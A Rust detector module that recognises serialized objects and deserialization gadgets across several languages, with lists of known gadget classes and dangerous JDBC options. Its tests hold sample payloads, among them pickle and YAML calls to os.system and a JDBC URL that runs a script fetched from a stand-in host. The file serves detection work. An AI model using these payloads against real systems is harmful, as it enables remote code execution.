//! Stored objects of programming languages in a value.
//!
//! A reader that makes objects out of text makes those that the text names. The formats begin with
//! marks that no other text has; where harmless programs send the same format (view states, signed
//! sessions), the mark is a hint only.
//!
//! Reads    `TEXT_BYTES_MAX` bytes from the front.
//! Memory   none.
//! Misses   objects that are compressed or encrypted; classes of an application's own.
//! Source   CWE-502; Java Object Serialization Specification 6; MS-NRBF; Python `pickletools`.

use super::caseless::{contains_bytes, find, starts};
use super::marks::Marks;
use super::part::{from, head};
use super::sign::{Input, Signs, signs};

signs! {
    PHP = 0, "php", Certain;
    JAVA = 1, "java", Certain;
    PICKLE = 2, "pickle", Certain;
    DOTNET = 3, "dotnet", Certain;
    NODE = 4, "node", Certain;
    TAG = 5, "tag", Certain;
    GADGET = 6, "gadget", Certain;
    DECODER = 7, "decoder", Certain;
    RUBY = 8, "ruby", Likely;
    PICKLE_ENCODED = 9, "pickle-encoded", Likely;
    PHP_STANDARD = 10, "php-standard", Likely;
    TAG_NAMED = 11, "tag-named", Likely;
    TYPE = 12, "type", Likely;
    CLASS = 13, "class", Likely;
    PHP_SCALARS = 14, "php-scalars", Hint;
    STATE = 15, "state", Hint;
    RUBY_ENCODED = 16, "ruby-encoded", Hint;
    GADGET_NAMED = 17, "gadget-named", Hint;
    TYPE_NAME = 18, "type-name", Hint;
    TOOL = 19, "tool", Hint;
    CONNECTS = 20, "connects", Certain;
    BYTECODE = 21, "bytecode", Likely;
    NAME = 22, "name", Likely;
}

/// Bytes that are read.
const TEXT_BYTES_MAX: usize = 2 * 1024;

/// Places that are looked at.
const PLACES_MAX: usize = 64;

pub(super) fn look(input: &Input<'_>) -> Signs {
    let mut signs = Signs::default();
    let marks = input.marks;
    let text = head(input.text, TEXT_BYTES_MAX);
    if input.is_name {
        signs.note(TYPE_NAME, matches!(text, b"$type" | b"@type"));
        let makes = matches!(
            text,
            b"py/object" | b"py/reduce" | b"py/type" | b"__js_function" | b"__cryo_type__"
        );
        signs.note(NAME, makes);
        return signs;
    }
    let text = text.trim_ascii_start();
    if text.len() < BYTES_MIN {
        return signs;
    }
    if may_begin(text) {
        look_at_front(text, &mut signs);
    }
    if marks.has(Marks::COLON.and(Marks::EQUALS))
        && marks.has_any(Marks::SEMICOLON.and(Marks::PLUS))
    {
        signs.note(CONNECTS, connects(text));
    }
    if marks.has(Marks::DOLLAR.and(Marks::LETTER)) {
        let is_class = memchr::memmem::find(text, b"$$BCEL$$$").is_some();
        signs.note(BYTECODE, is_class);
        signs.note(GADGET, is_class);
    }
    if marks.has(Marks::COLON.and(Marks::DOUBLE_QUOTE).and(Marks::DIGIT)) {
        look_at_php(text, &mut signs);
    }
    if marks.has(Marks::LINE.and(Marks::LETTER)) {
        signs.note(PICKLE, is_pickle(text));
    }
    if marks.has(Marks::BANG.and(Marks::LETTER)) {
        look_at_tags(text, &mut signs);
    }
    if marks.has(Marks::UNDERSCORE) && marks.has_any(Marks::DOLLAR.and(Marks::BRACE)) {
        signs.note(NODE, memchr::memmem::find(text, b"_$$ND_FUNC$$_").is_some());
        signs.note(CLASS, memchr::memmem::find(text, b"\"__js_function\"").is_some());
    }
    if marks.has(Marks::BRACE.and(Marks::SLASH).and(Marks::DOUBLE_QUOTE)) {
        let makes: [&[u8]; 2] = [b"\"py/object\"", b"\"py/reduce\""];
        let is_python = makes.iter().any(|it| memchr::memmem::find(text, it).is_some());
        signs.note(CLASS, is_python);
        signs.note(TYPE, is_python && text.len() <= 512);
    }
    if marks.has(Marks::DOT.and(Marks::LETTER)) {
        look_at_classes(text, marks, &mut signs);
    }
    signs
}

/// Shortest value that is an object.
const BYTES_MIN: usize = 8;

/// Marks of which each object has one that does not begin as one.
const NEEDED: Marks = Marks::COLON
    .and(Marks::DOLLAR)
    .and(Marks::LINE)
    .and(Marks::BANG)
    .and(Marks::BRACE)
    .and(Marks::DOT);

/// Whether it could be one.
pub(super) fn may_be(input: &Input<'_>) -> bool {
    let marks = input.marks;
    match input.is_name {
        true => {
            marks.has_any(Marks::DOLLAR.and(Marks::AT).and(Marks::SLASH).and(Marks::UNDERSCORE))
        }
        false => {
            input.text.len() >= BYTES_MIN
                && (marks.has_any(NEEDED) || may_begin(input.text.trim_ascii_start()))
        }
    }
}

/// Whether its first byte is that of an object, as it is or in Base64.
fn may_begin(text: &[u8]) -> bool {
    matches!(
        text.first(),
        Some(
            0
            | 4
            | 0x80
            | 0xAC
            | b'/'
            | b'0'
            | b'a'
            | b'c'
            | b'g'
            | b'r'
            | b'y'
            | b'A'..=b'C'
            | b'H'
            | b'K'
            | b'Q'..=b'T'
            | b'Y',
        )
    )
}

/// An address of a database whose driver runs or makes what the address says.
fn connects(text: &[u8]) -> bool {
    let Some(at) = find(text, b"jdbc:") else { return false };
    let address = head(from(text, at + 5), 512);
    contains_bytes(
        address,
        &[
            b"init=runscript",
            b"init=create",
            b"init=call",
            b"autodeserialize=true",
            b"socketfactory=",
            b"clientrerouteserverjndiname=",
            b"allowloadlocalinfile=true",
            b"queryinterceptors=",
            b"statementinterceptors=",
        ],
    )
}

fn look_at_front(text: &[u8], signs: &mut Signs) {
    let is_java = text.starts_with(b"rO0AB")
        || text.starts_with(b"\xAC\xED\x00\x05")
        || starts(text, b"aced0005") && text.len() > 24;
    signs.note(JAVA, is_java && !text.contains(&b' '));
    let is_dotnet = text.starts_with(b"AAEAAAD/////")
        || text.starts_with(b"\0\x01\0\0\0\xFF\xFF\xFF\xFF")
        || starts(text, b"0001000000ffffffff");
    // A view state that is such an object: the three ways in which its front can be written.
    let fronts: [&[u8]; 3] = [b"AAEAAAD/////", b"ABAAAA/////w", b"AAQAAAP////8"];
    let is_state = text.starts_with(b"/wE")
        && fronts.iter().any(|it| memchr::memmem::find(head(text, 64), it).is_some());
    signs.note(DOTNET, is_dotnet || is_state);
    if matches!(text, [b'T' | b'Q' | b'R', b'z', b'o', ..]) {
        let decoded = decoded(head(text, 16));
        signs.note(PHP, matches!(decoded.trim_ascii_end(), [b'O' | b'C' | b'E', b':', b'0'..=b'9', rest @ ..] if rest.contains(&b'"')));
    }
    signs.note(BYTECODE, text.starts_with(b"yv66vg") || starts(text, b"cafebabe0000"));
    signs.note(
        STATE,
        text.starts_with(b"/wE")
            || text.starts_with(b"H4sIAAAA")
            || text.starts_with(b"gAJ") && text.len() > 24,
    );
    let is_marshalled = matches!(
        text,
        [4, 8, b'o' | b'{' | b'[' | b'"' | b'I' | b'u' | b'c' | b'e' | b'U' | b'C', ..]
    );
    signs.note(RUBY, is_marshalled);
    signs.note(
        RUBY_ENCODED,
        matches!(text, [b'B', b'A', b'h', b'b' | b'v' | b'7' | b'J' | b'V' | b'1' | b'l', ..])
            && text.len() > 16,
    );
    let is_base64 = |it: &[u8]| {
        it.iter()
            .take(64)
            .all(|it| it.is_ascii_alphanumeric() || matches!(it, b'+' | b'/' | b'=' | b'-' | b'_'))
    };
    let is_encoded = [
        &b"gASV"[..],
        b"Y29zCn",
        b"Y3Bvc2l4C",
        b"Y19fYnVpbHRpbl9fC",
        b"KGRwM",
        b"gANjc",
        b"gAN9c",
        b"Y3N1YnByb2Nlc3",
    ]
    .iter()
    .any(|it| text.starts_with(it));
    signs.note(PICKLE_ENCODED, is_encoded && text.len() >= 20 && is_base64(text));
    signs.note(
        PICKLE,
        matches!(text, [0x80, 2..=5, b'c' | 0x95 | b'}' | b'(' | b']', ..]) && text.ends_with(b"."),
    );
}

/// From Base64, as far as it is.
fn decoded(text: &[u8]) -> Vec<u8> {
    let mut bits = 0_u32;
    let mut count = 0;
    let mut bytes = Vec::with_capacity(12);
    for &letter in text {
        let value = match letter {
            b'A'..=b'Z' => letter - b'A',
            b'a'..=b'z' => letter - b'a' + 26,
            b'0'..=b'9' => letter - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => break,
        };
        bits = bits << 6 & 0xFF_FFFF | u32::from(value);
        count += 6;
        if count >= 8 {
            count -= 8;
            bytes.extend(u8::try_from(bits >> count & 0xFF));
        }
    }
    bytes
}

/// `O:4:"Name":1:{`.
fn look_at_php(text: &[u8], signs: &mut Signs) {
    for at in memchr::memchr_iter(b':', text).take(PLACES_MAX) {
        let Some(kind) = at.checked_sub(1).and_then(|it| text.get(it)) else { continue };
        let before = at.checked_sub(2).and_then(|it| text.get(it));
        let is_start = before.is_none_or(|it| {
            matches!(it, b'{' | b';' | b'"' | b'\'' | b'=' | b'}' | b' ' | b'>' | b'|')
        });
        if !is_start || !matches!(kind, b'O' | b'C' | b'a' | b'E') {
            continue;
        }
        let rest = from(text, at + 1);
        let rest = rest.strip_prefix(b"+").unwrap_or(rest);
        let digits = rest.iter().take(6).take_while(|it| it.is_ascii_digit()).count();
        let Some(rest) = from(rest, digits).strip_prefix(b":").filter(|_| digits > 0) else {
            continue;
        };
        if *kind == b'a' {
            signs.note(PHP_SCALARS, rest.starts_with(b"{"));
            continue;
        }
        let rest = rest.strip_prefix(b"\\").unwrap_or(rest);
        let Some(named) = rest.strip_prefix(b"\"") else { continue };
        let name = named
            .iter()
            .take(128)
            .take_while(|it| it.is_ascii_alphanumeric() || matches!(it, b'_' | b'\\' | 128..))
            .count();
        let after = from(named, name);
        let is_object = name > 0 && (after.starts_with(b"\":") || after.starts_with(b"\\\":"));
        signs.note(PHP, is_object && !starts(named, b"stdclass"));
        signs.note(PHP_STANDARD, is_object);
    }
}

/// `cos\nsystem\n(S'id'\ntR.`: a module and a name, each on its line, and a call.
fn is_pickle(text: &[u8]) -> bool {
    let is_name = |it: &[u8]| {
        !it.is_empty()
            && it.len() <= 48
            && it.iter().all(|it| it.is_ascii_alphanumeric() || matches!(it, b'_' | b'.'))
    };
    let mut lines = text.splitn(12, |it| *it == b'\n');
    let mut before = lines.next().unwrap_or_default();
    for line in lines {
        let module = before.iter().position(|it| *it == b'c').map(|at| from(before, at + 1));
        let is_global = module.is_some_and(is_name) && is_name(line) && before.len() <= 64;
        let calls = is_global
            && contains_bytes(
                text,
                &[b"tr.", b"\nr.", b"(s'", b"(dp", b"\x85r.", b"o.", b"ntr", b"(lp"],
            )
            && text.trim_ascii_end().ends_with(b".");
        if calls {
            return true;
        }
        before = line;
    }
    false
}

/// Tags of YAML that name a class.
fn look_at_tags(text: &[u8], signs: &mut Signs) {
    const JAVA_NAMES: &[&[u8]] =
        &[b"javax.script.", b"java.net.", b"com.", b"org.", b"java.lang.", b"java.io.", b"sun."];
    const PYTHON: &[&[u8]] = &[b"object/apply:", b"object/new:", b"name:", b"module:", b"object:"];
    const RUBY: &[&[u8]] = &[b"object:", b"struct:", b"hash:", b"class:", b"object/"];
    let names = |it: &[u8]| it.first().is_some_and(|it| it.is_ascii_alphabetic() || *it == b'_');
    let is_short = text.len() <= 1024;
    if !is_short {
        return;
    }
    for at in memchr::memchr_iter(b'!', text).take(PLACES_MAX) {
        let tag = from(text, at + 1);
        if let Some(kind) = tag.strip_prefix(b"ruby/") {
            let makes = RUBY.iter().any(|it| kind.strip_prefix(*it).is_some_and(names));
            signs.note(TAG, makes);
            signs.note(TAG_NAMED, true);
        }
        let Some(class) = tag.strip_prefix(b"!") else { continue };
        if let Some(kind) = class.strip_prefix(b"python/") {
            let makes = PYTHON.iter().any(|it| kind.strip_prefix(*it).is_some_and(names));
            signs.note(TAG, makes);
            signs.note(TAG_NAMED, true);
        } else if JAVA_NAMES.iter().any(|it| starts(class, it)) {
            let makes = head(class, 128).iter().any(|it| matches!(it, b'[' | b'{'));
            signs.note(TAG, makes);
            signs.note(TAG_NAMED, true);
        }
    }
}

fn look_at_classes(text: &[u8], marks: Marks, signs: &mut Signs) {
    let may = marks
        .has_any(Marks::DOUBLE_QUOTE.and(Marks::QUOTE).and(Marks::COMMA).and(Marks::LESS))
        || text.len() <= 200;
    if !may {
        return;
    }
    if marks.has(Marks::COLON.and(Marks::DOUBLE_QUOTE).and(Marks::AT)) {
        let is_typed = names_java(text);
        signs.note(CLASS, is_typed);
        signs.note(TYPE, is_typed);
    }
    if marks.has(Marks::LESS.and(Marks::EQUALS)) {
        // Only a reader of objects knows these.
        let custom: [&[u8]; 2] = [b"serialization=\"custom\"", b"<unserializable-parents"];
        signs.note(DECODER, custom.iter().any(|it| memchr::memmem::find(text, it).is_some()));
    }
    let Some(at) = gadget(text) else { return };
    let begins = text
        .iter()
        .take_while(|it| matches!(it, b'"' | b'\'' | b'[' | b'{' | b' ' | b'<' | b'&'))
        .count();
    let is_whole = at <= begins + 1
        && text.len() <= 256
        && text.iter().filter(|it| it.is_ascii_whitespace()).count() <= 6;
    let before = head(text, at);
    let tail = from(before, before.len().saturating_sub(32));
    let is_typed = contains_bytes(
        tail,
        &[
            b"\"$type\"",
            b"\"@type\"",
            b"\"@class\"",
            b"$type",
            b"'$type'",
            b" type=\"",
            b" class=\"",
            b"class='",
            b"xsi:type",
        ],
    );
    signs.note(GADGET, is_typed || is_whole);
    signs.note(CLASS, is_typed || text.len() <= 512);
    signs.note(GADGET_NAMED, true);
    if marks.has(Marks::LESS) {
        let runs = contains_bytes(
            text,
            &[
                b"method=\"exec\"",
                b"method=\"start\"",
                b"java.lang.runtime",
                b"java.lang.processbuilder",
                b"methodname>",
                b"methodname=\"",
                b"eventhandler",
            ],
        );
        signs.note(
            DECODER,
            runs && contains_bytes(
                text,
                &[
                    b"<java",
                    b"<object",
                    b"<dynamic-proxy",
                    b"<sorted-set",
                    b"<tree-map",
                    b"<void",
                    b"<objectdataprovider",
                    b"<expandedwrapper",
                    b"<root type",
                    b"<map>",
                    b"<java.util.",
                ],
            ),
        );
    }
    signs.note(TYPE, contains_bytes(text, &[b"publickeytoken="]));
    signs.note(TOOL, contains_bytes(text, &[b"ysoserial", b"phpggc"]));
}

/// `"@type": "java.net.Inet4Address"`: the name of a class and not of a concept.
fn names_java(text: &[u8]) -> bool {
    const PACKAGES: &[&[u8]] = &[
        b"java.",
        b"javax.",
        b"com.sun.",
        b"org.apache.",
        b"sun.",
        b"org.springframework.",
        b"com.mchange.",
        b"com.zaxxer.",
        b"ch.qos.",
        b"oracle.",
    ];
    memchr::memchr_iter(b'@', text).take(PLACES_MAX).any(|at| {
        let rest = from(text, at + 1);
        let Some(rest) = rest.strip_prefix(b"type\"").or_else(|| rest.strip_prefix(b"class\""))
        else {
            return false;
        };
        let rest = rest.trim_ascii_start().strip_prefix(b":").unwrap_or(rest).trim_ascii_start();
        let name = rest.strip_prefix(b"\"").unwrap_or(rest);
        PACKAGES.iter().any(|it| name.starts_with(it))
    })
}

/// Where a class is named, at its last name, that is made because something happens when it is made.
fn gadget(text: &[u8]) -> Option<usize> {
    memchr::memchr3_iter(b'.', b'<', b'"', text).take(PLACES_MAX).find_map(|at| {
        let rest = from(text, at + 1);
        if !rest.first().is_some_and(u8::is_ascii_alphabetic) {
            return None;
        }
        let length = rest.iter().take(48).take_while(|it| it.is_ascii_alphanumeric()).count();
        let name = head(rest, length);
        let before = head(text, at);
        let is_of = |package: &[u8]| {
            from(before, before.len().saturating_sub(package.len())).eq_ignore_ascii_case(package)
        };
        let is_gadget = length >= 7
            && (GADGETS.iter().any(|it| name.eq_ignore_ascii_case(it))
                || PACKAGES
                    .iter()
                    .any(|(package, class)| name.eq_ignore_ascii_case(class) && is_of(package))
                || starts(name, b"expandedwrapper")
                || starts(name, b"jndi"));
        let start = before
            .iter()
            .rev()
            .take(128)
            .take_while(|it| it.is_ascii_alphanumeric() || **it == b'.')
            .count();
        is_gadget.then_some(at - start)
    })
}

/// Classes whose name is enough.
const GADGETS: &[&[u8]] = &[
    b"objectdataprovider",
    b"xamlreader",
    b"assemblyinstaller",
    b"psobject",
    b"windowsidentity",
    b"typeconfusedelegate",
    b"textformattingrunproperties",
    b"templatesimpl",
    b"jdbcrowsetimpl",
    b"invokertransformer",
    b"chainedtransformer",
    b"classpathxmlapplicationcontext",
    b"filesystemxmlapplicationcontext",
    b"methodinvokingfactorybean",
    b"driveradaptercpds",
    b"anterosdbcpconfig",
    b"jndirefforwardingdatasource",
    b"wrapperconnectionpooldatasource",
    b"scriptenginemanager",
    b"processbuilder",
    b"jndidatasource",
    b"drivermanagerconnectionsource",
    b"abstractbeanfactorypointcutadvisor",
    b"containsfilter",
    b"badattributevalueexpexception",
    b"lazymap",
    b"annotationinvocationhandler",
    b"signedobject",
    b"resourceref",
];

/// Classes that are gadgets in their package.
const PACKAGES: &[(&[u8], &[u8])] = &[
    (b"system.diagnostics", b"process"),
    (b"java.lang", b"runtime"),
    (b"java.beans", b"eventhandler"),
    (b"java.beans", b"xmldecoder"),
    (b"com.zaxxer.hikari", b"hikariconfig"),
    (b"bcel.util", b"classloader"),
    (b"java.net", b"urlclassloader"),
    (b"commons.collections", b"functors"),
];

#[cfg(test)]
mod tests {
    use super::super::sign::{self, Strength};
    use super::*;

    #[track_caller]
    fn check(strength: Option<Strength>, values: &[&str]) {
        sign::check(SIGNS, look, false, strength, values);
    }

    #[test]
    fn objects_of_any_language_are_certain() {
        check(
            Some(Strength::Certain),
            &[
                "O:4:\"Evil\":1:{s:1:\"a\";i:1;}",
                "a:1:{i:0;O:+4:\"Evil\":0:{}}",
                "rO0ABXNyABdqYXZhLnV0aWw=",
                "aced0005737200116a6176612e7574696c",
                "cos\nsystem\n(S'id'\ntR.",
                "AAEAAAD/////AQAAAAAAAAAMAgAAAElT",
                "/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAA",
                "Tzo0OiJFdmlsIjowOnt9",
                "$$BCEL$$$l$8b$I$A$A",
                "<java.util.PriorityQueue serialization=\"custom\"><a.b/></java.util.PriorityQueue>",
                "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"x\":1}]",
                "{\"a\":\"_$$ND_FUNC$$_function(){}()\"}",
                "!!python/object/apply:os.system [\"id\"]",
                "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://e.example/x.sql'",
                "jdbc:mysql://e.example/x?autoDeserialize=true&y=1",
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]",
                "--- !ruby/object:Gem::Installer",
                "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}",
                "[\"com.sun.rowset.JdbcRowSetImpl\",{}]",
                "<java><object class=\"java.lang.ProcessBuilder\"><void method=\"start\"/></object></java>",
            ],
        );
    }

    #[test]
    fn formats_that_programs_send_are_hints() {
        check(
            Some(Strength::Hint),
            &[
                "a:1:{s:1:\"a\";i:1;}",
                "/wEPDwULLTE2MTY2ODcyMjkPZBYCAgMPZBYCAgE=",
                "BAh7B0kiD3Nlc3Npb25faWQGOgZFVA==",
            ],
        );
        check(
            Some(Strength::Likely),
            &["O:8:\"stdClass\":0:{}", "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVt"],
        );
    }

    #[test]
    fn other_text_says_nothing() {
        check(
            None,
            &[
                "iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB",
                "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
                "O: 4 \"quoted\" things",
                "call\nme\nlater.",
                "class\nname\nends here.",
                "!important; !!true",
                "{\"$type\":\"Shop.Order, Shop\"}",
                "com.example.shop.Order",
            ],
        );
    }
}
